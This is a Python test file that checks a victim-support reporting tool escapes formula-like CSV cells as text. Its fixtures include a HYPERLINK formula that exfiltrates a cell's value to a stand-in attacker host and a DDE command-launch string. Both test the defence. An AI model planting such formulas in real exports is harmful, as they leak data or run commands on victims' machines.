"""CSV cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from victim_champion.content.report_labels import report_words
from victim_champion.core.report_csv import report_csv
from victim_champion.core.report_facts import ReportFacts, ReportPeriod, SignpostingFact
from victim_champion.core.reporting import Labels, build_report
from victim_champion.core.spreadsheet_cells import SafeCsvWriter, neutralised

HYPERLINK = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Click for details")'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3"],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_in_front(cell: str) -> None:
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["12", "0", "<5", "[c]", "withheld", "Ashford", "a=b", "Total", "", "2026-09-30"]
)
def test_every_value_our_reports_print_is_left_as_it_is(cell: str) -> None:
    # Counts are never negative, so no figure of ours starts with "-" (see the module).
    assert neutralised(cell) == cell


def test_the_writer_neutralises_every_cell_and_still_quotes_csv_properly() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", 'say "hi", twice', "fine"])
    assert out.getvalue() == '\'=1+1,"say ""hi"", twice",fine\n'


def test_a_service_id_pushed_as_a_formula_lands_in_the_report_as_text() -> None:
    labels = Labels(
        districts={"dover": "Dover"},
        needs={"help-at-court": "Help at court"},
        services={"witness-service": "Witness Service"},
    )
    signposted = [
        SignpostingFact(f"p{i}", "dover", date(2026, 9, 1), ("help-at-court",), (HYPERLINK,))
        for i in range(8)
    ]
    facts = ReportFacts([], [], [], [], signposted, [])
    report = build_report(facts, ReportPeriod(date(2026, 7, 1), date(2026, 9, 30)), labels)

    rows = list(csv.reader(io.StringIO(report_csv(report, report_words()))))

    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells  # the id reached the CSV (as the services row) ...
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
